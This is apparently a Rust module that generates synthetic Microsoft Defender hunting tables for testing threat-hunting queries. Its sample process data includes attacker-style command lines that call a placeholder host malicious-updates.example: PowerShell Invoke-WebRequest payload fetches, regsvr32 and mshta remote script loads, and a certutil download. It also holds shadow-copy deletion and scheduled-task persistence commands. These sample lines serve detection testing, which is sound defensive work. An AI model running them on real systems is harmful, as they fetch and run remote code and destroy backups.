//! Deterministic synthetic Defender hunting tables.
//!
//! Tables are stored column by column; string columns are dictionary encoded (a small
//! pool of interned `Arc<str>` plus one `u32` code per row), so a million-row table costs
//! a few tens of megabytes and a `where` over a string column is evaluated once per
//! distinct value rather than once per row.

use std::sync::Arc;

use crate::value::{DataType, Value, TICKS_PER_DAY, TICKS_PER_MS};

/// The names of the generated tables, in generation order.
pub const TABLE_NAMES: [&str; 7] = [
    "DeviceProcessEvents",
    "DeviceNetworkEvents",
    "DeviceLogonEvents",
    "AlertInfo",
    "AlertEvidence",
    "EmailEvents",
    "IdentityLogonEvents",
];

/// How to generate a [`Dataset`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DatasetConfig {
    /// PRNG seed: the same config always yields the same data.
    pub seed: u64,
    /// Rows in each table unless overridden in `table_rows`.
    pub rows_per_table: usize,
    /// "Now" at generation time, Unix milliseconds: timestamps lie in
    /// `[anchor - span_days, anchor)`.
    pub anchor_unix_ms: i64,
    /// Days of history (default 40, so some data is older than the 30-day hunting window).
    pub span_days: u32,
    /// Per-table row-count overrides: `(table name, rows)`.
    pub table_rows: Vec<(String, usize)>,
}

impl Default for DatasetConfig {
    fn default() -> Self {
        DatasetConfig {
            seed: 1,
            rows_per_table: 10_000,
            anchor_unix_ms: 0,
            span_days: 40,
            table_rows: Vec::new(),
        }
    }
}

impl DatasetConfig {
    /// Sets the row count of one table (builder style).
    pub fn with_table_rows(mut self, table: &str, rows: usize) -> Self {
        self.table_rows.retain(|(t, _)| t != table);
        self.table_rows.push((table.to_string(), rows));
        self
    }

    /// The row count a table will get.
    pub fn rows_for(&self, table: &str) -> usize {
        self.table_rows
            .iter()
            .rev()
            .find(|(t, _)| t == table)
            .map_or(self.rows_per_table, |(_, n)| *n)
    }
}

/// A column's name and type.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ColumnSchema {
    /// Column name, e.g. `"DeviceName"`.
    pub name: String,
    /// Column type.
    pub data_type: DataType,
}

#[derive(Debug, Clone)]
pub(crate) enum ColumnData {
    Str {
        dict: Vec<Arc<str>>,
        codes: Vec<u32>,
    },
    Int(Vec<i64>),
    Bool(Vec<bool>),
    DateTime(Vec<i64>),
}

impl ColumnData {
    #[inline]
    pub(crate) fn value(&self, row: usize) -> Value {
        match self {
            ColumnData::Str { dict, codes } => Value::Str(dict[codes[row] as usize].clone()),
            ColumnData::Int(v) => Value::Int(v[row]),
            ColumnData::Bool(v) => Value::Bool(v[row]),
            ColumnData::DateTime(v) => Value::DateTime(v[row]),
        }
    }
}

/// One generated table: rows sorted by `Timestamp` ascending.
#[derive(Debug, Clone)]
pub struct Table {
    name: String,
    schema: Vec<ColumnSchema>,
    pub(crate) data: Vec<ColumnData>,
    rows: usize,
}

impl Table {
    /// The table name.
    pub fn name(&self) -> &str {
        &self.name
    }
    /// The columns, in order.
    pub fn schema(&self) -> &[ColumnSchema] {
        &self.schema
    }
    /// Number of rows.
    pub fn row_count(&self) -> usize {
        self.rows
    }
    /// Index of a column by exact name.
    pub fn column_index(&self, name: &str) -> Option<usize> {
        self.schema.iter().position(|c| c.name == name)
    }
    /// The value at `(row, column)`. Panics if either is out of range.
    pub fn value(&self, row: usize, column: usize) -> Value {
        self.data[column].value(row)
    }
    /// A whole row, in schema order.
    pub fn row(&self, row: usize) -> Vec<Value> {
        self.data.iter().map(|c| c.value(row)).collect()
    }
    /// The `Timestamp` column as ticks (100 ns since the Unix epoch), ascending.
    pub fn timestamps(&self) -> &[i64] {
        match &self.data[0] {
            ColumnData::DateTime(v) => v,
            _ => &[],
        }
    }
}

/// A set of generated tables.
#[derive(Debug, Clone)]
pub struct Dataset {
    tables: Vec<Table>,
}

impl Dataset {
    /// Generates every table of [`TABLE_NAMES`] deterministically from `config`.
    pub fn generate(config: &DatasetConfig) -> Dataset {
        let world = World::new(config.seed);
        let anchor = config.anchor_unix_ms.saturating_mul(TICKS_PER_MS);
        let span = i64::from(config.span_days).saturating_mul(TICKS_PER_DAY);
        let tables = TABLE_NAMES
            .iter()
            .map(|&name| {
                let n = config.rows_for(name);
                let mut rng = Rng::new(config.seed ^ fnv(name));
                let ts = timestamps(&mut rng, n, anchor, span);
                let mut b = Builder {
                    n,
                    cols: Vec::new(),
                };
                b.cols.push((
                    "Timestamp",
                    DataType::DateTime,
                    ColumnData::DateTime(ts.clone()),
                ));
                match name {
                    "DeviceProcessEvents" => gen_process(&mut b, &world, &mut rng),
                    "DeviceNetworkEvents" => gen_network(&mut b, &world, &mut rng),
                    "DeviceLogonEvents" => gen_logon(&mut b, &world, &mut rng),
                    "AlertInfo" => gen_alert_info(&mut b, &world, &mut rng, config.seed),
                    "AlertEvidence" => gen_alert_evidence(&mut b, &world, &mut rng, config),
                    "EmailEvents" => gen_email(&mut b, &world, &mut rng),
                    _ => gen_identity(&mut b, &world, &mut rng),
                }
                Table {
                    name: name.to_string(),
                    schema: b
                        .cols
                        .iter()
                        .map(|(n, t, _)| ColumnSchema {
                            name: (*n).to_string(),
                            data_type: *t,
                        })
                        .collect(),
                    data: b.cols.into_iter().map(|(_, _, d)| d).collect(),
                    rows: n,
                }
            })
            .collect();
        Dataset { tables }
    }

    /// A table by exact (case-sensitive) name.
    pub fn table(&self, name: &str) -> Option<&Table> {
        self.tables.iter().find(|t| t.name == name)
    }
    /// All tables.
    pub fn tables(&self) -> &[Table] {
        &self.tables
    }
    /// The table names.
    pub fn table_names(&self) -> Vec<&str> {
        self.tables.iter().map(|t| t.name.as_str()).collect()
    }
    /// `(name, row count)` per table.
    pub fn row_counts(&self) -> Vec<(&str, usize)> {
        self.tables
            .iter()
            .map(|t| (t.name.as_str(), t.rows))
            .collect()
    }
}

// ---------------------------------------------------------------------------------------
// PRNG and helpers

/// splitmix64.
#[derive(Debug, Clone)]
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x5851_f42d_4c95_7f2d)
    }
    #[inline]
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    #[inline]
    fn below(&mut self, n: usize) -> usize {
        (((self.next() >> 32) * n as u64) >> 32) as usize
    }
    #[inline]
    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
    #[inline]
    fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }
    /// Index into `weights` chosen proportionally.
    fn weighted(&mut self, weights: &[u32]) -> usize {
        let total: u32 = weights.iter().sum();
        let mut r = self.below(total as usize) as u32;
        for (i, w) in weights.iter().enumerate() {
            if r < *w {
                return i;
            }
            r -= w;
        }
        weights.len() - 1
    }
    fn hex(&mut self, len: usize) -> String {
        const H: &[u8; 16] = b"0123456789abcdef";
        (0..len).map(|_| H[self.below(16)] as char).collect()
    }
    fn alnum(&mut self, len: usize) -> String {
        const A: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
        (0..len).map(|_| A[self.below(A.len())] as char).collect()
    }
    fn guid(&mut self) -> String {
        format!(
            "{}-{}-{}-{}-{}",
            self.hex(8),
            self.hex(4),
            self.hex(4),
            self.hex(4),
            self.hex(12)
        )
    }
}

fn fnv(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
    })
}

/// `n` ascending timestamps spread uniformly over `[anchor - span, anchor)`
/// (one uniform draw per equal-width stratum: already sorted, O(n)).
fn timestamps(rng: &mut Rng, n: usize, anchor: i64, span: i64) -> Vec<i64> {
    let start = anchor.saturating_sub(span);
    let step = span as f64 / n.max(1) as f64;
    (0..n)
        .map(|i| {
            let off = ((i as f64 + rng.unit()) * step) as i64;
            start.saturating_add(off.min(span - 1).max(0))
        })
        .collect()
}

fn arcs<S: AsRef<str>>(items: &[S]) -> Vec<Arc<str>> {
    items.iter().map(|s| Arc::from(s.as_ref())).collect()
}

struct Builder {
    n: usize,
    cols: Vec<(&'static str, DataType, ColumnData)>,
}

impl Builder {
    /// A string column whose row `i` is `dict[code(i)]`.
    fn str_col(
        &mut self,
        name: &'static str,
        dict: Vec<Arc<str>>,
        mut code: impl FnMut(usize) -> usize,
    ) {
        let codes = (0..self.n).map(|i| code(i) as u32).collect();
        self.cols
            .push((name, DataType::String, ColumnData::Str { dict, codes }));
    }
    /// A string column from precomputed codes.
    fn str_codes(&mut self, name: &'static str, dict: Vec<Arc<str>>, codes: &[usize]) {
        self.str_col(name, dict, |i| codes[i]);
    }
    fn int_col(&mut self, name: &'static str, ty: DataType, mut f: impl FnMut(usize) -> i64) {
        let v = (0..self.n).map(&mut f).collect();
        self.cols.push((name, ty, ColumnData::Int(v)));
    }
    fn bool_col(&mut self, name: &'static str, mut f: impl FnMut(usize) -> bool) {
        let v = (0..self.n).map(&mut f).collect();
        self.cols.push((name, DataType::Bool, ColumnData::Bool(v)));
    }
    /// A `ReportId` column: unique, increasing with jitter.
    fn report_id(&mut self, rng: &mut Rng) {
        self.int_col("ReportId", DataType::Long, |i| {
            10_000 + i as i64 * 8 + rng.below(8) as i64
        });
    }
}

// ---------------------------------------------------------------------------------------
// The shared "world": devices, accounts, files, addresses.

struct World {
    device_ids: Vec<Arc<str>>,
    device_names: Vec<Arc<str>>,
    device_ips: Vec<Arc<str>>,
    user_names: Vec<Arc<str>>,
    user_domains: Vec<Arc<str>>,
    user_upns: Vec<Arc<str>>,
    user_emails: Vec<Arc<str>>,
    file_names: Vec<Arc<str>>,
    file_paths: Vec<Arc<str>>,
    file_sha: Vec<Arc<str>>,
    /// Indices into the process list with their command lines (flattened variants).
    cmd_proc: Vec<usize>,
    cmd_lines: Vec<Arc<str>>,
    remote_ips: Vec<Arc<str>>,
    remote_urls: Vec<Arc<str>>,
    public_ips: Vec<Arc<str>>,
}

/// (file name, folder, command-line variants, weight)
const PROCESSES: &[(&str, &str, &[&str], u32)] = &[
    ("svchost.exe", r"C:\Windows\System32", &["svchost.exe -k netsvcs -p -s Schedule", "svchost.exe -k LocalServiceNetworkRestricted -p", "svchost.exe -k DcomLaunch -p"], 30),
    ("conhost.exe", r"C:\Windows\System32", &[r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"], 15),
    ("cmd.exe", r"C:\Windows\System32", &["cmd.exe /c whoami /all", "cmd.exe /c ipconfig /all", r#"cmd.exe /c "C:\Scripts\backup.bat""#, "cmd.exe /c net user administrator /domain"], 10),
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", &[r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1", "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "powershell.exe Get-Process | Sort-Object CPU -Descending", "powershell.exe -Command Invoke-WebRequest -Uri http://malicious-updates.example/payload.ps1"], 8),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application", &["\"chrome.exe\" --type=renderer --lang=en-US", "\"chrome.exe\" --type=gpu-process"], 10),
    ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", &["\"msedge.exe\" --type=utility --lang=en-US"], 8),
    ("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16", &[r#""WINWORD.EXE" /n "C:\Users\Public\Documents\Invoice_2024.docm""#, "\"WINWORD.EXE\" /automation -Embedding"], 4),
    ("EXCEL.EXE", r"C:\Program Files\Microsoft Office\root\Office16", &["\"EXCEL.EXE\" /dde"], 3),
    ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", &["\"OUTLOOK.EXE\" /recycle"], 3),
    ("rundll32.exe", r"C:\Windows\System32", &["rundll32.exe shell32.dll,Control_RunDLL", r"rundll32.exe C:\Users\Public\update.dll,DllRegisterServer"], 3),
    ("regsvr32.exe", r"C:\Windows\System32", &["regsvr32.exe /s /n /u /i:http://malicious-updates.example/file.sct scrobj.dll"], 1),
    ("mshta.exe", r"C:\Windows\System32", &["mshta.exe vbscript:Close(Execute(\"GetObject(\"\"script:http://malicious-updates.example/a\"\")\"))"], 1),
    ("wmic.exe", r"C:\Windows\System32\wbem", &["wmic.exe process call create calc.exe", "wmic.exe shadowcopy delete"], 1),
    ("certutil.exe", r"C:\Windows\System32", &["certutil.exe -urlcache -split -f http://malicious-updates.example/x.exe x.exe"], 1),
    ("schtasks.exe", r"C:\Windows\System32", &["schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\update.exe /sc minute"], 2),
    ("net.exe", r"C:\Windows\System32", &["net.exe group \"Domain Admins\" /domain", "net.exe localgroup administrators"], 2),
    ("whoami.exe", r"C:\Windows\System32", &["whoami.exe /priv"], 2),
    ("taskhostw.exe", r"C:\Windows\System32", &["taskhostw.exe KEYROAMING"], 6),
    ("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24020.7-0", &["MsMpEng.exe"], 5),
    ("notepad.exe", r"C:\Windows\System32", &[r"notepad.exe C:\Users\Public\notes.txt"], 3),
    ("psexec.exe", r"C:\Tools", &[r"psexec.exe \\srv-file-01 -s cmd.exe"], 1),
];

const PARENTS: &[(&str, &str, u32)] = &[
    ("explorer.exe", r"C:\Windows\Explorer.EXE", 30),
    ("svchost.exe", "svchost.exe -k netsvcs -p", 20),
    ("services.exe", r"C:\Windows\system32\services.exe", 15),
    ("cmd.exe", "cmd.exe /c start.bat", 8),
    ("powershell.exe", "powershell.exe -NoProfile", 8),
    ("WINWORD.EXE", "\"WINWORD.EXE\" /n", 3),
    (
        "wmiprvse.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        4,
    ),
    ("userinit.exe", r"C:\Windows\system32\userinit.exe", 5),
    ("chrome.exe", "\"chrome.exe\"", 7),
];

const FIRST: &[&str] = &[
    "james",
    "mary",
    "robert",
    "patricia",
    "john",
    "jennifer",
    "michael",
    "linda",
    "david",
    "elizabeth",
    "william",
    "barbara",
    "richard",
    "susan",
    "joseph",
    "jessica",
    "thomas",
    "sarah",
    "charles",
    "karen",
    "priya",
    "wei",
    "fatima",
    "lukas",
    "sofia",
    "mateo",
];
const LAST: &[&str] = &[
    "smith",
    "johnson",
    "williams",
    "brown",
    "jones",
    "garcia",
    "miller",
    "davis",
    "rodriguez",
    "martinez",
    "hernandez",
    "lopez",
    "wilson",
    "anderson",
    "thomas",
    "taylor",
    "moore",
    "jackson",
    "martin",
    "lee",
    "patel",
    "chen",
    "mueller",
    "rossi",
];
const URLS: &[&str] = &[
    "www.microsoft.com",
    "login.microsoftonline.com",
    "graph.microsoft.com",
    "officecdn.microsoft.com",
    "github.com",
    "www.google.com",
    "update.googleapis.com",
    "contoso.sharepoint.com",
    "outlook.office365.com",
    "cdn.jsdelivr.net",
    "pastebin.com",
    "malicious-updates.example",
    "x9f3k.duckdns.org",
];

impl World {
    fn new(seed: u64) -> World {
        let mut r = Rng::new(seed.wrapping_mul(0x9e37_79b9) ^ 0xd1b5_4a32_d192_ed03);
        let kinds = ["desktop", "laptop", "wks", "srv", "sql", "web", "dc"];
        let nd = 200;
        let mut device_ids = Vec::new();
        let mut device_names = Vec::new();
        let mut device_ips = Vec::new();
        for i in 0..nd {
            device_ids.push(r.hex(40));
            let kind = kinds[r.weighted(&[30, 25, 20, 10, 5, 5, 2])];
            device_names.push(format!("{kind}-{}.contoso.local", r.alnum(6)));
            device_ips.push(format!(
                "10.{}.{}.{}",
                1 + i / 250 % 4,
                r.below(250) + 1,
                i % 250 + 2
            ));
        }
        let mut user_names = vec![
            "system".to_string(),
            "local service".to_string(),
            "network service".to_string(),
            "administrator".to_string(),
        ];
        let mut user_domains = vec![
            "nt authority".to_string(),
            "nt authority".to_string(),
            "nt authority".to_string(),
            "contoso".to_string(),
        ];
        while user_names.len() < 300 {
            let f = FIRST[r.below(FIRST.len())];
            let l = LAST[r.below(LAST.len())];
            let name = format!("{}{}", &f[..1], l);
            let name = if user_names.contains(&name) {
                format!("{name}{}", user_names.len())
            } else {
                name
            };
            user_names.push(name);
            user_domains.push(if r.chance(0.9) { "contoso" } else { "fabrikam" }.to_string());
        }
        let user_upns: Vec<String> = user_names
            .iter()
            .zip(&user_domains)
            .map(|(n, d)| format!("{}@{d}.com", n.replace(' ', "")))
            .collect();
        let user_emails = user_upns.clone();
        let mut file_names = Vec::new();
        let mut file_paths = Vec::new();
        let mut file_sha = Vec::new();
        let mut cmd_proc = Vec::new();
        let mut cmd_lines = Vec::new();
        for (i, (f, dir, cmds, _)) in PROCESSES.iter().enumerate() {
            file_names.push(f.to_string());
            file_paths.push(format!("{dir}\\{f}"));
            file_sha.push(r.hex(64));
            for c in *cmds {
                cmd_proc.push(i);
                cmd_lines.push(c.to_string());
            }
        }
        let mut public_ips = Vec::new();
        for _ in 0..400 {
            public_ips.push(format!(
                "{}.{}.{}.{}",
                [13, 20, 23, 40, 52, 104, 142, 151, 185, 192, 198][r.below(11)],
                r.below(256),
                r.below(256),
                r.below(254) + 1
            ));
        }
        let remote_ips: Vec<String> = public_ips
            .iter()
            .cloned()
            .chain(device_ips.iter().take(50).cloned())
            .collect();
        let remote_urls: Vec<String> = (0..remote_ips.len())
            .map(|i| {
                if i < public_ips.len() {
                    URLS[(i * 7 + i / 13) % URLS.len()].to_string()
                } else {
                    String::new()
                }
            })
            .collect();
        World {
            device_ids: arcs(&device_ids),
            device_names: arcs(&device_names),
            device_ips: arcs(&device_ips),
            user_names: arcs(&user_names),
            user_domains: arcs(&user_domains),
            user_upns: arcs(&user_upns),
            user_emails: arcs(&user_emails),
            file_names: arcs(&file_names),
            file_paths: arcs(&file_paths),
            file_sha: arcs(&file_sha),
            cmd_proc,
            cmd_lines: arcs(&cmd_lines),
            remote_ips: arcs(&remote_ips),
            remote_urls: arcs(&remote_urls),
            public_ips: arcs(&public_ips),
        }
    }

    /// A device index, skewed so a few devices are noisy.
    fn device(&self, r: &mut Rng) -> usize {
        let n = self.device_ids.len();
        if r.chance(0.3) {
            r.below(n / 10)
        } else {
            r.below(n)
        }
    }
    fn user(&self, r: &mut Rng) -> usize {
        if r.chance(0.25) {
            r.below(4)
        } else {
            4 + r.below(self.user_names.len() - 4)
        }
    }
}

fn gen_process(b: &mut Builder, w: &World, r: &mut Rng) {
    let n = b.n;
    let proc_weights: Vec<u32> = PROCESSES.iter().map(|p| p.3).collect();
    let parent_weights: Vec<u32> = PARENTS.iter().map(|p| p.2).collect();
    let mut dev = Vec::with_capacity(n);
    let mut cmd = Vec::with_capacity(n);
    let mut user = Vec::with_capacity(n);
    let mut parent = Vec::with_capacity(n);
    let mut action = Vec::with_capacity(n);
    // First command-line index of each process.
    let mut first_cmd = vec![0usize; PROCESSES.len()];
    let mut count_cmd = vec![0usize; PROCESSES.len()];
    for (i, p) in w.cmd_proc.iter().enumerate().rev() {
        first_cmd[*p] = i;
        count_cmd[*p] += 1;
    }
    for _ in 0..n {
        dev.push(w.device(r));
        let p = r.weighted(&proc_weights);
        cmd.push(first_cmd[p] + r.below(count_cmd[p]));
        user.push(w.user(r));
        parent.push(r.weighted(&parent_weights));
        action.push(usize::from(r.chance(0.03)));
    }
    let procs: Vec<usize> = cmd.iter().map(|c| w.cmd_proc[*c]).collect();
    b.str_codes("DeviceId", w.device_ids.clone(), &dev);
    b.str_codes("DeviceName", w.device_names.clone(), &dev);
    b.str_codes(
        "ActionType",
        arcs(&["ProcessCreated", "ProcessCreatedUsingWmiQuery"]),
        &action,
    );
    b.str_codes("FileName", w.file_names.clone(), &procs);
    b.str_codes("FolderPath", w.file_paths.clone(), &procs);
    b.str_codes("SHA256", w.file_sha.clone(), &procs);
    b.str_codes("ProcessCommandLine", w.cmd_lines.clone(), &cmd);
    b.str_codes("AccountName", w.user_names.clone(), &user);
    b.str_codes("AccountDomain", w.user_domains.clone(), &user);
    let pnames: Vec<&str> = PARENTS.iter().map(|p| p.0).collect();
    let pcmds: Vec<&str> = PARENTS.iter().map(|p| p.1).collect();
    b.str_codes("InitiatingProcessFileName", arcs(&pnames), &parent);
    b.str_codes("InitiatingProcessCommandLine", arcs(&pcmds), &parent);
    b.int_col("ProcessId", DataType::Long, |_| {
        4 * (r.below(16_000) as i64 + 1)
    });
    b.report_id(r);
}

fn gen_network(b: &mut Builder, w: &World, r: &mut Rng) {
    let n = b.n;
    const PORTS: &[(i64, u32)] = &[
        (443, 60),
        (80, 12),
        (53, 10),
        (445, 5),
        (3389, 3),
        (22, 2),
        (135, 2),
        (8080, 3),
        (5985, 1),
        (4444, 1),
    ];
    let port_w: Vec<u32> = PORTS.iter().map(|p| p.1).collect();
    let mut dev = Vec::with_capacity(n);
    let mut ip = Vec::with_capacity(n);
    let mut port = Vec::with_capacity(n);
    let mut action = Vec::with_capacity(n);
    let mut url = Vec::with_capacity(n);
    let mut proto = Vec::with_capacity(n);
    let mut proc = Vec::with_capacity(n);
    let public = w.public_ips.len();
    let empty_url = w.remote_urls.len() - 1;
    for _ in 0..n {
        dev.push(w.device(r));
        let p = PORTS[r.weighted(&port_w)].0;
        port.push(p);
        let internal = matches!(p, 445 | 3389 | 135 | 5985) || r.chance(0.05);
        let i = if internal {
            public + r.below(w.remote_ips.len() - public)
        } else {
            r.below(public)
        };
        ip.push(i);
        url.push(if matches!(p, 443 | 80 | 8080) {
            i
        } else {
            empty_url
        });
        proto.push(usize::from(p == 53));
        action.push(r.weighted(&[70, 10, 15, 5]));
        proc.push(r.weighted(&[30, 20, 15, 10, 10, 5, 5, 5]));
    }
    b.str_codes("DeviceId", w.device_ids.clone(), &dev);
    b.str_codes("DeviceName", w.device_names.clone(), &dev);
    b.str_codes(
        "ActionType",
        arcs(&[
            "ConnectionSuccess",
            "ConnectionFailed",
            "InboundConnectionAccepted",
            "ConnectionRequest",
        ]),
        &action,
    );
    b.str_codes("RemoteIP", w.remote_ips.clone(), &ip);
    b.int_col("RemotePort", DataType::Int, |i| port[i]);
    b.str_codes("RemoteUrl", w.remote_urls.clone(), &url);
    b.str_codes("LocalIP", w.device_ips.clone(), &dev);
    b.int_col("LocalPort", DataType::Int, |_| {
        49_152 + r.below(16_384) as i64
    });
    b.str_codes("Protocol", arcs(&["Tcp", "Udp"]), &proto);
    b.str_codes(
        "InitiatingProcessFileName",
        arcs(&[
            "chrome.exe",
            "svchost.exe",
            "msedge.exe",
            "OUTLOOK.EXE",
            "Teams.exe",
            "powershell.exe",
            "MsSense.exe",
            "rundll32.exe",
        ]),
        &proc,
    );
    b.report_id(r);
}

fn gen_logon(b: &mut Builder, w: &World, r: &mut Rng) {
    let n = b.n;
    let mut dev = Vec::with_capacity(n);
    let mut user = Vec::with_capacity(n);
    let mut action = Vec::with_capacity(n);
    let mut ltype = Vec::with_capacity(n);
    let mut rip = Vec::with_capacity(n);
    let mut admin = Vec::with_capacity(n);
    let empty = w.remote_ips.len();
    for _ in 0..n {
        dev.push(w.device(r));
        let u = w.user(r);
        user.push(u);
        action.push(r.weighted(&[85, 12, 3]));
        let t = r.weighted(&[25, 35, 8, 8, 12, 8, 4]);
        ltype.push(t);
        rip.push(if matches!(t, 1 | 2) {
            r.below(w.remote_ips.len())
        } else {
            empty
        });
        admin.push(u == 3 || r.chance(0.08));
    }
    let mut ips = w.remote_ips.clone();
    ips.push(Arc::from(""));
    b.str_codes("DeviceId", w.device_ids.clone(), &dev);
    b.str_codes("DeviceName", w.device_names.clone(), &dev);
    b.str_codes(
        "ActionType",
        arcs(&["LogonSuccess", "LogonFailed", "LogonAttempted"]),
        &action,
    );
    b.str_codes("AccountName", w.user_names.clone(), &user);
    b.str_codes("AccountDomain", w.user_domains.clone(), &user);
    b.str_codes(
        "LogonType",
        arcs(&[
            "Interactive",
            "Network",
            "RemoteInteractive",
            "Batch",
            "Service",
            "Unlock",
            "CachedInteractive",
        ]),
        &ltype,
    );
    b.str_codes("RemoteIP", ips, &rip);
    b.bool_col("IsLocalAdmin", |i| admin[i]);
    b.report_id(r);
}

/// (title, category, severity, technique)
const ALERTS: &[(&str, &str, &str, &str)] = &[
    (
        "Suspicious PowerShell command line",
        "Execution",
        "Medium",
        "PowerShell (T1059.001)",
    ),
    (
        "Suspicious process injection observed",
        "DefenseEvasion",
        "High",
        "Process Injection (T1055)",
    ),
    (
        "Possible credential theft activity",
        "CredentialAccess",
        "High",
        "OS Credential Dumping (T1003)",
    ),
    (
        "Ransomware behavior detected in the file system",
        "Ransomware",
        "High",
        "Data Encrypted for Impact (T1486)",
    ),
    (
        "Suspicious scheduled task",
        "Persistence",
        "Medium",
        "Scheduled Task (T1053.005)",
    ),
    (
        "An active 'Emotet' malware was detected",
        "Malware",
        "High",
        "User Execution (T1204)",
    ),
    (
        "Suspicious file dropped by Office application",
        "InitialAccess",
        "Medium",
        "Spearphishing Attachment (T1566.001)",
    ),
    (
        "Anomalous account lookups",
        "Discovery",
        "Low",
        "Account Discovery (T1087)",
    ),
    (
        "Suspicious remote execution via PsExec",
        "LateralMovement",
        "Medium",
        "Service Execution (T1569.002)",
    ),
    (
        "Email messages containing malicious URL removed after delivery",
        "InitialAccess",
        "Informational",
        "Spearphishing Link (T1566.002)",
    ),
    (
        "Suspected brute-force attack (Kerberos, NTLM)",
        "CredentialAccess",
        "Medium",
        "Brute Force (T1110)",
    ),
    (
        "Connection to a custom network indicator",
        "CommandAndControl",
        "Low",
        "Application Layer Protocol (T1071)",
    ),
    (
        "Impossible travel activity",
        "InitialAccess",
        "Medium",
        "Valid Accounts (T1078)",
    ),
    (
        "'Mimikatz' hacktool was prevented",
        "Malware",
        "Low",
        "OS Credential Dumping (T1003)",
    ),
];

fn alert_id(seed: u64, k: usize) -> String {
    let mut r = Rng::new(seed ^ (k as u64).wrapping_mul(0x2545_f491_4f6c_dd1d));
    format!(
        "da{}_{}",
        637_500_000_000_000_000u64 + r.next() % 10_000_000_000_000u64,
        (r.next() % 4_000_000_000) as i64 - 2_000_000_000
    )
}

fn alert_kind(seed: u64, k: usize) -> usize {
    let mut r = Rng::new(seed ^ 0xa1e7 ^ (k as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15));
    r.below(ALERTS.len())
}

fn gen_alert_info(b: &mut Builder, _w: &World, r: &mut Rng, seed: u64) {
    let n = b.n;
    let kinds: Vec<usize> = (0..n).map(|k| alert_kind(seed, k)).collect();
    let ids: Vec<String> = (0..n).map(|k| alert_id(seed, k)).collect();
    let titles: Vec<&str> = ALERTS.iter().map(|a| a.0).collect();
    let cats: Vec<&str> = ALERTS.iter().map(|a| a.1).collect();
    let sevs: Vec<&str> = ALERTS.iter().map(|a| a.2).collect();
    let techs: Vec<String> = ALERTS.iter().map(|a| format!("[\"{}\"]", a.3)).collect();
    b.str_col("AlertId", arcs(&ids), |i| i);
    b.str_codes("Title", arcs(&titles), &kinds);
    b.str_codes("Category", arcs(&cats), &kinds);
    b.str_codes("Severity", arcs(&sevs), &kinds);
    let services = [
        "Microsoft Defender for Endpoint",
        "Microsoft Defender for Office 365",
        "Microsoft Defender for Identity",
        "Microsoft Defender for Cloud Apps",
        "Microsoft Defender XDR",
    ];
    let svc: Vec<usize> = kinds
        .iter()
        .map(|k| match ALERTS[*k].1 {
            "InitialAccess" if ALERTS[*k].0.starts_with("Email") => 1,
            "InitialAccess" if ALERTS[*k].0.starts_with("Impossible") => 3,
            _ if ALERTS[*k].0.contains("brute-force") || ALERTS[*k].0.contains("lookups") => 2,
            _ => {
                if r.chance(0.05) {
                    4
                } else {
                    0
                }
            }
        })
        .collect();
    b.str_codes("ServiceSource", arcs(&services), &svc);
    let sources = [
        "EDR",
        "Antivirus",
        "Custom detection",
        "Microsoft Defender XDR",
        "Microsoft Defender for Office 365",
        "Microsoft Defender for Identity",
        "Microsoft Defender for Cloud Apps",
    ];
    let det: Vec<usize> = svc
        .iter()
        .map(|s| match s {
            0 => r.weighted(&[60, 30, 10]),
            1 => 4,
            2 => 5,
            3 => 6,
            _ => 3,
        })
        .collect();
    b.str_codes("DetectionSource", arcs(&sources), &det);
    b.str_codes("AttackTechniques", arcs(&techs), &kinds);
}

fn gen_alert_evidence(b: &mut Builder, w: &World, r: &mut Rng, cfg: &DatasetConfig) {
    let n = b.n;
    let alerts = cfg.rows_for("AlertInfo").max(1);
    let seed = cfg.seed;
    // Alert k of AlertInfo sits at relative position k/alerts; pick nearby alerts.
    let ks: Vec<usize> = (0..n)
        .map(|i| {
            let base = (i as f64 / n.max(1) as f64 * alerts as f64) as usize;
            (base + r.below(3)).min(alerts - 1)
        })
        .collect();
    let mut id_dict: Vec<Arc<str>> = Vec::new();
    let mut id_codes = Vec::with_capacity(n);
    let mut last = usize::MAX;
    for k in &ks {
        if *k != last || id_dict.is_empty() {
            id_dict.push(Arc::from(alert_id(seed, *k)));
            last = *k;
        }
        id_codes.push(id_dict.len() - 1);
    }
    let kinds: Vec<usize> = ks.iter().map(|k| alert_kind(seed, *k)).collect();
    b.str_codes("AlertId", id_dict, &id_codes);
    let titles: Vec<&str> = ALERTS.iter().map(|a| a.0).collect();
    let cats: Vec<&str> = ALERTS.iter().map(|a| a.1).collect();
    let sevs: Vec<&str> = ALERTS.iter().map(|a| a.2).collect();
    b.str_codes("Title", arcs(&titles), &kinds);
    b.str_codes("Category", arcs(&cats), &kinds);
    b.str_codes("Severity", arcs(&sevs), &kinds);
    let entity: Vec<usize> = (0..n)
        .map(|_| r.weighted(&[30, 25, 20, 10, 10, 5]))
        .collect();
    b.str_codes(
        "EntityType",
